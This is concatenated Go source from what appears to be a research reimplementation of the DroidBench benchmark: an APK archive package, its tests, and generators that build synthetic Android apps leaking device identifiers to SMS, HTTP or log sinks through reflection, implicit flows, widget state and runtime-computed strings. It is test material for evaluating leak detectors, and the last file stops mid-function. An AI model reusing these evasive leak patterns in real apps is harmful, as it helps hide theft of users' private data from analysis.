	for k, v := range a.files {
		out.files[k] = append([]byte(nil), v...)
	}
	return out
}

// ContentHash returns the canonical SHA-256 identity of the package: a
// digest over the manifest identity and every archive entry in sorted
// order, each length-prefixed so entry boundaries are unambiguous. The
// hash depends only on logical content — not on zip encoding details — so
// it is stable across Bytes/Read round trips, which is what lets the
// artifact store and the batch report use it as a deterministic name.
func (a *APK) ContentHash() [32]byte {
	h := sha256.New()
	var lenBuf [8]byte
	writeField := func(b []byte) {
		binary.LittleEndian.PutUint64(lenBuf[:], uint64(len(b)))
		h.Write(lenBuf[:])
		h.Write(b)
	}
	writeField([]byte("apk/v1"))
	writeField([]byte(a.Manifest.Package))
	writeField([]byte(a.Manifest.Version))
	writeField([]byte(a.Manifest.MainActivity))
	binary.LittleEndian.PutUint64(lenBuf[:], uint64(int64(a.Manifest.MinSDK)))
	h.Write(lenBuf[:])
	names := make([]string, 0, len(a.files))
	for name := range a.files {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		writeField([]byte(name))
		writeField(a.files[name])
	}
	var out [32]byte
	h.Sum(out[:0])
	return out
}

// ContentHashHex returns ContentHash as a lowercase hex string.
func (a *APK) ContentHashHex() string {
	h := a.ContentHash()
	return hex.EncodeToString(h[:])
}

// Bytes serializes the APK as a zip archive with deterministic entry order.
func (a *APK) Bytes() ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	manifest, err := xml.MarshalIndent(&a.Manifest, "", "  ")
	if err != nil {
		return nil, fmt.Errorf("apk: marshal manifest: %w", err)
	}
	names := make([]string, 0, len(a.files))
	for name := range a.files {
		names = append(names, name)
	}
	sort.Strings(names)
	write := func(name string, data []byte) error {
		w, err := zw.Create(name)
		if err != nil {
			return fmt.Errorf("apk: create %s: %w", name, err)
		}
		if _, err := w.Write(data); err != nil {
			return fmt.Errorf("apk: write %s: %w", name, err)
		}
		return nil
	}
	if err := write(manifestEntry, manifest); err != nil {
		return nil, err
	}
	for _, name := range names {
		if err := write(name, a.files[name]); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, fmt.Errorf("apk: close archive: %w", err)
	}
	return buf.Bytes(), nil
}

// Read parses a zip archive produced by Bytes.
func Read(data []byte) (*APK, error) {
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, fmt.Errorf("apk: open archive: %w", err)
	}
	out := &APK{files: make(map[string][]byte, len(zr.File))}
	sawManifest := false
	for _, zf := range zr.File {
		rc, err := zf.Open()
		if err != nil {
			return nil, fmt.Errorf("apk: open %s: %w", zf.Name, err)
		}
		contents, err := io.ReadAll(rc)
		closeErr := rc.Close()
		if err != nil {
			return nil, fmt.Errorf("apk: read %s: %w", zf.Name, err)
		}
		if closeErr != nil {
			return nil, fmt.Errorf("apk: close %s: %w", zf.Name, closeErr)
		}
		if zf.Name == manifestEntry {
			if err := xml.Unmarshal(contents, &out.Manifest); err != nil {
				return nil, fmt.Errorf("apk: parse manifest: %w", err)
			}
			sawManifest = true
			continue
		}
		out.files[zf.Name] = contents
	}
	if !sawManifest {
		return nil, errors.New("apk: missing AndroidManifest.xml")
	}
	return out, nil
}
