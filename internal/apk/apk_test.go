package apk

import (
	"bytes"
	"errors"
	"reflect"
	"testing"
)

func TestRoundTrip(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1, 2, 3})
	a.AddAsset("payload.bin", []byte{9, 9})
	a.AddNativeLib("libshell.so", []byte("elf"))
	a.Put("res/values.bin", []byte("x"))

	data, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Manifest.Package != "com.test" || got.Manifest.MainActivity != "Lcom/test/Main;" {
		t.Errorf("manifest = %+v", got.Manifest)
	}
	dex, err := got.Dex()
	if err != nil || !bytes.Equal(dex, []byte{1, 2, 3}) {
		t.Errorf("dex = %v, %v", dex, err)
	}
	if asset, ok := got.Asset("payload.bin"); !ok || !bytes.Equal(asset, []byte{9, 9}) {
		t.Errorf("asset = %v, %v", asset, ok)
	}
	if lib, ok := got.NativeLib("libshell.so"); !ok || string(lib) != "elf" {
		t.Errorf("lib = %q, %v", lib, ok)
	}
	if f, ok := got.File("res/values.bin"); !ok || string(f) != "x" {
		t.Errorf("file = %q, %v", f, ok)
	}
	if !reflect.DeepEqual(got.Assets(), []string{"payload.bin"}) {
		t.Errorf("assets = %v", got.Assets())
	}
}

func TestMissingDex(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	if _, err := a.Dex(); !errors.Is(err, ErrNoDex) {
		t.Errorf("got %v, want ErrNoDex", err)
	}
}

func TestCloneIsolation(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1})
	cl := a.Clone()
	cl.SetDex([]byte{2})
	cl.Manifest.Package = "other"
	d, _ := a.Dex()
	if d[0] != 1 || a.Manifest.Package != "com.test" {
		t.Error("Clone shares state with original")
	}
}

func TestAccessorsCopy(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1, 2})
	d, _ := a.Dex()
	d[0] = 99
	d2, _ := a.Dex()
	if d2[0] == 99 {
		t.Error("Dex returns aliased memory")
	}
}

func TestReadErrors(t *testing.T) {
	if _, err := Read([]byte("not a zip")); err == nil {
		t.Error("want error for junk input")
	}
	// A valid zip without a manifest must be rejected.
	a := &APK{files: map[string][]byte{"x": {1}}}
	data, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	// Strip the manifest by rebuilding the archive without it: simplest is
	// to serialize an APK whose manifest marshals to an entry we then drop.
	// Bytes always writes a manifest, so corrupt the name instead.
	idx := bytes.Index(data, []byte("AndroidManifest.xml"))
	for idx >= 0 {
		copy(data[idx:], []byte("androidmanifest.xml"))
		idx = bytes.Index(data, []byte("AndroidManifest.xml"))
	}
	if _, err := Read(data); err == nil {
		t.Error("want error for missing manifest")
	}
}

func TestEntriesSorted(t *testing.T) {
	a := New("p", "1", "LMain;")
	a.Put("z", nil)
	a.Put("a", nil)
	entries := a.Entries()
	for i := 1; i < len(entries); i++ {
		if entries[i-1] > entries[i] {
			t.Fatalf("entries not sorted: %v", entries)
		}
	}
}

func TestDeterministicBytes(t *testing.T) {
	a := New("p", "1", "LMain;")
	a.Put("b", []byte{2})
	a.Put("a", []byte{1})
	d1, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	d2, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(d1, d2) {
		t.Error("Bytes not deterministic")
	}
}
