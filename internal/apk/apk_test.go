package apk

import (
	"bytes"
	"errors"
	"reflect"
	"testing"
)

func TestRoundTrip(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1, 2, 3})
	a.AddAsset("payload.bin", []byte{9, 9})
	a.AddNativeLib("libshell.so", []byte("elf"))
	a.Put("res/values.bin", []byte("x"))

	data, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	got, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Manifest.Package != "com.test" || got.Manifest.MainActivity != "Lcom/test/Main;" {
		t.Errorf("manifest = %+v", got.Manifest)
	}
	dex, err := got.Dex()
	if err != nil || !bytes.Equal(dex, []byte{1, 2, 3}) {
		t.Errorf("dex = %v, %v", dex, err)
	}
	if asset, ok := got.Asset("payload.bin"); !ok || !bytes.Equal(asset, []byte{9, 9}) {
		t.Errorf("asset = %v, %v", asset, ok)
	}
	if lib, ok := got.NativeLib("libshell.so"); !ok || string(lib) != "elf" {
		t.Errorf("lib = %q, %v", lib, ok)
	}
	if f, ok := got.File("res/values.bin"); !ok || string(f) != "x" {
		t.Errorf("file = %q, %v", f, ok)
	}
	if !reflect.DeepEqual(got.Assets(), []string{"payload.bin"}) {
		t.Errorf("assets = %v", got.Assets())
	}
}

func TestMissingDex(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	if _, err := a.Dex(); !errors.Is(err, ErrNoDex) {
		t.Errorf("got %v, want ErrNoDex", err)
	}
}

func TestCloneIsolation(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1})
	cl := a.Clone()
	cl.SetDex([]byte{2})
	cl.Manifest.Package = "other"
	d, _ := a.Dex()
	if d[0] != 1 || a.Manifest.Package != "com.test" {
		t.Error("Clone shares state with original")
	}
}

func TestAccessorsCopy(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1, 2})
	d, _ := a.Dex()
	d[0] = 99
	d2, _ := a.Dex()
	if d2[0] == 99 {
		t.Error("Dex returns aliased memory")
	}
}

func TestReadErrors(t *testing.T) {
	if _, err := Read([]byte("not a zip")); err == nil {
		t.Error("want error for junk input")
	}
	// A valid zip without a manifest must be rejected.
	a := &APK{files: map[string][]byte{"x": {1}}}
	data, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	// Strip the manifest by rebuilding the archive without it: simplest is
	// to serialize an APK whose manifest marshals to an entry we then drop.
	// Bytes always writes a manifest, so corrupt the name instead.
	idx := bytes.Index(data, []byte("AndroidManifest.xml"))
	for idx >= 0 {
		copy(data[idx:], []byte("androidmanifest.xml"))
		idx = bytes.Index(data, []byte("AndroidManifest.xml"))
	}
	if _, err := Read(data); err == nil {
		t.Error("want error for missing manifest")
	}
}

func TestEntriesSorted(t *testing.T) {
	a := New("p", "1", "LMain;")
	a.Put("z", nil)
	a.Put("a", nil)
	entries := a.Entries()
	for i := 1; i < len(entries); i++ {
		if entries[i-1] > entries[i] {
			t.Fatalf("entries not sorted: %v", entries)
		}
	}
}

func TestContentHashStableAcrossRoundTrip(t *testing.T) {
	a := New("com.test", "1.0", "Lcom/test/Main;")
	a.SetDex([]byte{1, 2, 3})
	a.AddAsset("payload.bin", []byte{9, 9})
	a.AddNativeLib("libshell.so", []byte("elf"))
	want := a.ContentHash()
	data, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	back, err := Read(data)
	if err != nil {
		t.Fatal(err)
	}
	if got := back.ContentHash(); got != want {
		t.Errorf("hash changed across serialization round trip: %x != %x", got, want)
	}
	// A second round trip through the re-serialized bytes is also stable.
	data2, err := back.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	back2, err := Read(data2)
	if err != nil {
		t.Fatal(err)
	}
	if got := back2.ContentHash(); got != want {
		t.Errorf("hash changed on second round trip: %x != %x", got, want)
	}
	if hex := a.ContentHashHex(); len(hex) != 64 {
		t.Errorf("hex hash length = %d, want 64", len(hex))
	}
}

func TestContentHashSensitivity(t *testing.T) {
	base := func() *APK {
		a := New("com.test", "1.0", "Lcom/test/Main;")
		a.SetDex([]byte{1, 2, 3})
		return a
	}
	h0 := base().ContentHash()
	withDex := base()
	withDex.SetDex([]byte{1, 2, 4})
	if withDex.ContentHash() == h0 {
		t.Error("dex change did not change the hash")
	}
	withEntry := base()
	withEntry.AddAsset("x", nil)
	if withEntry.ContentHash() == h0 {
		t.Error("new entry did not change the hash")
	}
	withPkg := base()
	withPkg.Manifest.Package = "com.other"
	if withPkg.ContentHash() == h0 {
		t.Error("manifest change did not change the hash")
	}
	// Entry boundaries are length-prefixed: moving a byte between the
	// entry name and its payload must not collide.
	ab := New("p", "1", "LMain;")
	ab.Put("ab", []byte("c"))
	ac := New("p", "1", "LMain;")
	ac.Put("a", []byte("bc"))
	if ab.ContentHash() == ac.ContentHash() {
		t.Error("entry boundary ambiguity: ab|c collides with a|bc")
	}
}

func TestDeterministicBytes(t *testing.T) {
	a := New("p", "1", "LMain;")
	a.Put("b", []byte{2})
	a.Put("a", []byte{1})
	d1, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	d2, err := a.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(d1, d2) {
		t.Error("Bytes not deterministic")
	}
}
