package droidbench

import (
	"fmt"

	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
)

// specialSamples returns the release samples whose detection separates the
// three tools: ImplicitFlow1 (HornDroid only), ten widget-state flows
// (missed by FlowDroid's shallow framework model), six reflection samples
// of increasing string-tracking difficulty, and the tablet-gated sample no
// configuration catches.
func specialSamples() []*Sample {
	var out []*Sample
	out = append(out, implicitFlow1())
	out = append(out, widgetFlows()...)
	out = append(out, reflectionSamples()...)
	out = append(out, tabletSample())
	return out
}

// implicitFlow1 leaks through control dependence at two sites: only
// implicit-flow tracking (HornDroid) sees it; no dynamic tool does.
func implicitFlow1() *Sample {
	name := "ImplicitFlow1"
	return leakySample(name, "implicit", 2,
		newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				emitSource(a, "imei", 0, 1)
				// Site 1: branch on a tainted comparison, log constants.
				a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
				a.MoveResult(1)
				a.Const(2, 15)
				a.If(bytecode.OpIfNe, 1, 2, "not15")
				a.ConstString(3, "length-is-15")
				a.LogLeak("implicit", 3, 4)
				a.Goto("site2")
				a.Label("not15")
				a.ConstString(3, "length-differs")
				a.LogLeak("implicit", 3, 4)
				a.Label("site2")
				// Site 2: tainted prefix check controls an HTTP beacon.
				a.ConstString(1, "35")
				a.InvokeVirtual("Ljava/lang/String;", "startsWith",
					"(Ljava/lang/String;)Z", 0, 1)
				a.MoveResult(2)
				a.IfZ(bytecode.OpIfEqz, 2, "done")
				a.ConstString(3, "prefix-35")
				emitSink(a, "http", 3, 4)
				a.Label("done")
				a.ReturnVoid()
			})
		}))
}

// widgetFlows pass the data through a UI widget's state: one TextView is
// written and read back before reaching the sink. Shallow framework models
// (FlowDroid) lose the flow.
func widgetFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 10; i++ {
		name := fmt.Sprintf("Widget%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		out = append(out, leakySample(name, "widget", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.NewInstance(0, "Landroid/widget/TextView;")
					a.InvokeDirect("Landroid/widget/TextView;", "<init>", "()V", 0)
					emitSource(a, src, 1, 2)
					a.InvokeVirtual("Landroid/widget/TextView;", "setText",
						"(Ljava/lang/String;)V", 0, 1)
					a.InvokeVirtual("Landroid/widget/TextView;", "getText",
						"()Ljava/lang/String;", 0)
					a.MoveResultObject(3)
					emitSink(a, sink, 3, 4)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// emitReflectiveCall performs forName(clsReg).getMethod(nameReg).invoke(this)
// and leaves the (cast) string result in dst.
func emitReflectiveCall(a *dexgen.Asm, clsReg, nameReg, dst int32) {
	a.InvokeStatic("Ljava/lang/Class;", "forName",
		"(Ljava/lang/String;)Ljava/lang/Class;", clsReg)
	a.MoveResultObject(clsReg)
	a.InvokeVirtual("Ljava/lang/Class;", "getMethod",
		"(Ljava/lang/String;)Ljava/lang/reflect/Method;", clsReg, nameReg)
	a.MoveResultObject(nameReg)
	a.Const(dst, 0)
	a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
		"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", nameReg, a.This(), dst)
	a.MoveResultObject(dst)
	a.CheckCast(dst, "Ljava/lang/String;")
}

// addSecretSource declares the reflective target: a zero-argument method
// returning tainted data.
func addSecretSource(cls *dexgen.Class, src string) {
	cls.Virtual("secretSource", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		emitSource(a, src, 0, 1)
		a.ReturnObj(0)
	})
}

// dotted returns the Java-dotted name for the sample activity class.
func dotted(name string) string { return "de.droidbench." + name }

// reflectionSamples: Reflection1-4 pass the method-name string through a
// call (interprocedural string tracking: DroidSafe/HornDroid resolve);
// Reflection5-6 pass it through an instance field (only HornDroid's
// value-sensitive tracking resolves).
func reflectionSamples() []*Sample {
	var out []*Sample
	for i := 1; i <= 4; i++ {
		name := fmt.Sprintf("Reflection%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		out = append(out, leakySample(name, "reflection-call", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				addSecretSource(cls, src)
				cls.Virtual("callIt", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
					a.ConstString(0, dotted(name))
					a.MoveObject(1, a.P(0))
					emitReflectiveCall(a, 0, 1, 2)
					emitSink(a, sink, 2, 0)
					a.ReturnVoid()
				})
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.ConstString(0, "secretSource")
					a.InvokeVirtual(desc, "callIt", "(Ljava/lang/String;)V", a.This(), 0)
					a.ReturnVoid()
				})
			})))
	}
	for i := 5; i <= 6; i++ {
		name := fmt.Sprintf("Reflection%d", i)
		src := sourceKinds[(i+2)%len(sourceKinds)]
		sink := sinkKinds[(i+1)%len(sinkKinds)]
		out = append(out, leakySample(name, "reflection-field", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				addSecretSource(cls, src)
				cls.Field("mName", "Ljava/lang/String;")
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					a.ConstString(0, "secretSource")
					a.IPutObject(0, a.This(), desc, "mName", "Ljava/lang/String;")
					a.ReturnVoid()
				})
				cls.Virtual("onResume", "V", nil, func(a *dexgen.Asm) {
					a.ConstString(0, dotted(name))
					a.IGetObject(1, a.This(), desc, "mName", "Ljava/lang/String;")
					emitReflectiveCall(a, 0, 1, 2)
					emitSink(a, sink, 2, 0)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// emitComputedString builds s in dst at runtime from arithmetic on char
// codes, so no constant-string tracking can recover it.
func emitComputedString(a *dexgen.Asm, s string, dst, sb, ch int32) {
	a.NewInstance(sb, "Ljava/lang/StringBuilder;")
	a.InvokeDirect("Ljava/lang/StringBuilder;", "<init>", "()V", sb)
	for _, r := range s {
		a.Const(ch, int64(r)-1)
		a.AddLit(ch, ch, 1)
		a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
			"(C)Ljava/lang/StringBuilder;", sb, ch)
	}
	a.InvokeVirtual("Ljava/lang/StringBuilder;", "toString", "()Ljava/lang/String;", sb)
	a.MoveResultObject(dst)
}

// tabletSample leaks only on tablets, through reflection whose target name
// is computed at runtime: statically unresolvable, dynamically unreachable
// on the phone the experiments run on — the one application DexLego cannot
// cover (Section V-B).
func tabletSample() *Sample {
	name := "TabletReflection1"
	return leakySample(name, "tablet", 1,
		newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
			addSecretSource(cls, "imei")
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				a.InvokeVirtual("Landroid/app/Activity;", "getConfiguration",
					"()Landroid/content/res/Configuration;", a.This())
				a.MoveResultObject(0)
				a.IGetInt(1, 0, "Landroid/content/res/Configuration;", "screenLayout")
				a.Const(2, 4) // XLARGE
				a.If(bytecode.OpIfNe, 1, 2, "phone")
				emitComputedString(a, "secretSource", 3, 4, 5)
				emitComputedString(a, dotted(name), 6, 4, 5)
				emitReflectiveCall(a, 6, 3, 7)
				emitSink(a, "sms", 7, 0)
				a.Label("phone")
				a.ReturnVoid()
			})
		}))
}
