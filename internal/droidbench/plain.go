package droidbench

import (
	"fmt"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/dexgen"
)

// plainSamples returns the 81 release samples whose flows every evaluated
// static tool detects: direct, interprocedural, field-mediated, string- and
// array-obfuscated, callback-triggered, lifecycle-split, switch- and
// exception-routed leaks, plus EmulatorDetection1 and PrivateDataLeak3.
func plainSamples() []*Sample {
	var out []*Sample
	out = append(out, directLeaks()...)        // 12
	out = append(out, interprocLeaks()...)     // 10
	out = append(out, fieldFlows()...)         // 8
	out = append(out, staticFieldFlows()...)   // 5
	out = append(out, loopStringFlows()...)    // 8
	out = append(out, arrayFlows()...)         // 6
	out = append(out, builderFlows()...)       // 5
	out = append(out, callbackLeaks()...)      // 6
	out = append(out, switchFlows()...)        // 4
	out = append(out, catchFlows()...)         // 4
	out = append(out, lifecycleFlows()...)     // 6
	out = append(out, branchingFlows()...)     // 5
	out = append(out, emulatorDetection1()...) // 1
	out = append(out, privateDataLeak3()...)   // 1
	return out
}

func leakySample(name, category string, count int, build func() (*apk.APK, error)) *Sample {
	return &Sample{
		Name: name, Category: category, Leaky: true, LeakCount: count,
		build: build,
	}
}

func directLeaks() []*Sample {
	var out []*Sample
	for idx := 0; len(out) < 12; idx++ {
		if idx%5 == 1 {
			continue // deterministic thinning of the 5x4 source/sink grid
		}
		srcKind := sourceKinds[idx/len(sinkKinds)%len(sourceKinds)]
		sinkKind := sinkKinds[idx%len(sinkKinds)]
		name := fmt.Sprintf("DirectLeak%d", len(out)+1)
		out = append(out, leakySample(name, "direct", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, srcKind, 0, 1)
					emitSink(a, sinkKind, 0, 1)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func interprocLeaks() []*Sample {
	var out []*Sample
	for i := 1; i <= 10; i++ {
		name := fmt.Sprintf("Interproc%d", i)
		depth := i%4 + 1
		sink := sinkKinds[i%len(sinkKinds)]
		src := sourceKinds[i%len(sourceKinds)]
		out = append(out, leakySample(name, "interproc", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				// hop0..hop{depth-1}: each passes the data one level down.
				for h := 0; h < depth; h++ {
					hop := h
					cls.Virtual(fmt.Sprintf("hop%d", hop), "V",
						[]string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
							if hop == depth-1 {
								emitSink(a, sink, a.P(0), 0)
							} else {
								a.InvokeVirtual(desc, fmt.Sprintf("hop%d", hop+1),
									"(Ljava/lang/String;)V", a.This(), a.P(0))
							}
							a.ReturnVoid()
						})
				}
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.InvokeVirtual(desc, "hop0", "(Ljava/lang/String;)V", a.This(), 0)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func fieldFlows() []*Sample {
	readers := []string{"onStart", "onResume", "onPause", "onStop"}
	var out []*Sample
	for i := 1; i <= 8; i++ {
		name := fmt.Sprintf("FieldFlow%d", i)
		reader := readers[i%len(readers)]
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		out = append(out, leakySample(name, "field", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				cls.Field("secret", "Ljava/lang/String;")
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.IPutObject(0, a.This(), desc, "secret", "Ljava/lang/String;")
					a.ReturnVoid()
				})
				cls.Virtual(reader, "V", nil, func(a *dexgen.Asm) {
					a.IGetObject(0, a.This(), desc, "secret", "Ljava/lang/String;")
					emitSink(a, sink, 0, 1)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func staticFieldFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 5; i++ {
		name := fmt.Sprintf("StaticField%d", i)
		src := sourceKinds[(i+1)%len(sourceKinds)]
		sink := sinkKinds[(i+2)%len(sinkKinds)]
		out = append(out, leakySample(name, "staticfield", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				desc := activityDesc(name)
				cls.StaticField("stash", "Ljava/lang/String;")
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.SPutObject(0, desc, "stash", "Ljava/lang/String;")
					a.ReturnVoid()
				})
				cls.Virtual("onResume", "V", nil, func(a *dexgen.Asm) {
					a.SGetObject(0, desc, "stash", "Ljava/lang/String;")
					emitSink(a, sink, 0, 1)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// loopStringFlows rebuild the tainted string character by character, the
// classic "looped obfuscation" DroidBench pattern.
func loopStringFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 8; i++ {
		name := fmt.Sprintf("LoopString%d", i)
		src := sourceKinds[i%len(sourceKinds)]
		sink := sinkKinds[(i+1)%len(sinkKinds)]
		out = append(out, leakySample(name, "loop", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.NewInstance(1, "Ljava/lang/StringBuilder;")
					a.InvokeDirect("Ljava/lang/StringBuilder;", "<init>", "()V", 1)
					a.Const(2, 0) // i
					a.Label("loop")
					a.InvokeVirtual("Ljava/lang/String;", "length", "()I", 0)
					a.MoveResult(3)
					a.If(bytecode.OpIfGe, 2, 3, "done")
					a.InvokeVirtual("Ljava/lang/String;", "charAt", "(I)C", 0, 2)
					a.MoveResult(4)
					a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
						"(C)Ljava/lang/StringBuilder;", 1, 4)
					a.AddLit(2, 2, 1)
					a.Goto("loop")
					a.Label("done")
					a.InvokeVirtual("Ljava/lang/StringBuilder;", "toString",
						"()Ljava/lang/String;", 1)
					a.MoveResultObject(5)
					emitSink(a, sink, 5, 0)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func arrayFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 6; i++ {
		name := fmt.Sprintf("ArrayFlow%d", i)
		src := sourceKinds[(i+2)%len(sourceKinds)]
		sink := sinkKinds[i%len(sinkKinds)]
		slot := int64(i % 3)
		out = append(out, leakySample(name, "array", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.Const(1, 4)
					a.NewArray(2, 1, "[Ljava/lang/String;")
					a.Const(3, slot)
					a.APut(bytecode.OpAPutObject, 0, 2, 3)
					a.AGet(bytecode.OpAGetObject, 4, 2, 3)
					emitSink(a, sink, 4, 0)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

func builderFlows() []*Sample {
	var out []*Sample
	for i := 1; i <= 5; i++ {
		name := fmt.Sprintf("Builder%d", i)
		src := sourceKinds[(i+3)%len(sourceKinds)]
		sink := sinkKinds[(i+3)%len(sinkKinds)]
		out = append(out, leakySample(name, "builder", 1,
			newActivityApp(name, func(p *dexgen.Program, cls *dexgen.Class) {
				cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
					emitSource(a, src, 0, 1)
					a.NewInstance(1, "Ljava/lang/StringBuilder;")
					a.InvokeDirect("Ljava/lang/StringBuilder;", "<init>", "()V", 1)
					a.ConstString(2, "data=")
					a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
						"(Ljava/lang/String;)Ljava/lang/StringBuilder;", 1, 2)
					a.MoveResultObject(1)
					a.InvokeVirtual("Ljava/lang/StringBuilder;", "append",
						"(Ljava/lang/String;)Ljava/lang/StringBuilder;", 1, 0)
					a.MoveResultObject(1)
					a.InvokeVirtual("Ljava/lang/StringBuilder;", "toString",
						"()Ljava/lang/String;", 1)
					a.MoveResultObject(3)
					emitSink(a, sink, 3, 0)
					a.ReturnVoid()
				})
			})))
	}
	return out
}

// callbackLeaks includes Button1 and Button3 from Table IV: the leaks fire
// only when a click listener runs.
func callbackLeaks() []*Sample {
	mk := func(name string, buttons int, sink string) *Sample {
		return leakySample(name, "callback", buttons, func() (*apk.APK, error) {
			p := dexgen.New()
			desc := activityDesc(name)
			for b := 0; b < buttons; b++ {
				ldesc := fmt.Sprintf("Lde/droidbench/%s$L%d;", name, b)
				listener := p.Class(ldesc, "", "Landroid/view/View$OnClickListener;")
				listener.Ctor("Ljava/lang/Object;", nil)
				listener.Field("act", "Landroid/app/Activity;")
				sinkKind := sink
				listener.Virtual("onClick", "V", []string{"Landroid/view/View;"}, func(a *dexgen.Asm) {
					a.IGetObject(6, a.This(), ldesc, "act", "Landroid/app/Activity;")
					a.ConstString(7, "phone")
					a.InvokeVirtual("Landroid/app/Activity;", "getSystemService",
						"(Ljava/lang/String;)Ljava/lang/Object;", 6, 7)
					a.MoveResultObject(7)
					a.CheckCast(7, "Landroid/telephony/TelephonyManager;")
					a.InvokeVirtual("Landroid/telephony/TelephonyManager;", "getDeviceId",
						"()Ljava/lang/String;", 7)
					a.MoveResultObject(0)
					emitSink(a, sinkKind, 0, 1)
					a.ReturnVoid()
				})
			}
			cls := p.Class(desc, "Landroid/app/Activity;")
			cls.Ctor("Landroid/app/Activity;", nil)
			cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
				for b := 0; b < buttons; b++ {
					ldesc := fmt.Sprintf("Lde/droidbench/%s$L%d;", name, b)
					a.Const(0, int64(100+b))
					a.InvokeVirtual("Landroid/app/Activity;", "findViewById",
						"(I)Landroid/view/View;", a.This(), 0)
					a.MoveResultObject(1)
					a.NewInstance(2, ldesc)
